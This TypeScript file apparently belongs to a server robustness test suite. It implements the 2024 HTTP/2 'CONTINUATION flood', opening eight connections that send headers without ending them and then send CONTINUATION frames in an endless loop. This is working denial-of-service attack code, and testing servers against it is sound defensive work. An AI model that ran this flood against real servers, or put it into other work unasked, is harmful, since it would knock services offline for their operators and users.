import { Buffer } from "node:buffer";
import type { Attack } from "../attack.ts";
import {
  continuationFrame,
  headersFrame,
  preface,
  webhookFields,
} from "../http2_frames.ts";

/** Bartek Nowotarski's "CONTINUATION flood", 2024: headers that are never ended. */
export const http2ContinuationsAreCutOff: Attack = {
  what: "sends headers over 8 HTTP/2 connections that do not end",
  caps: { connections: 20_000, bytes: 1e9 },
  run: (attacker) =>
    attacker.sideBySide(8, async (connection) => {
      const stream = 1;
      const fields = webhookFields(attacker.host, 2);
      const first = headersFrame({ stream, fields, endsHeaders: false });
      if (!await connection.write(Buffer.concat([preface, first]))) return;
      const more = continuationFrame(
        stream,
        Object.fromEntries(
          Array.from({ length: 100 }, (_, n) => [`x-${n}`, "v".repeat(100)]),
        ),
      );
      while (await connection.write(more));
    }),
};
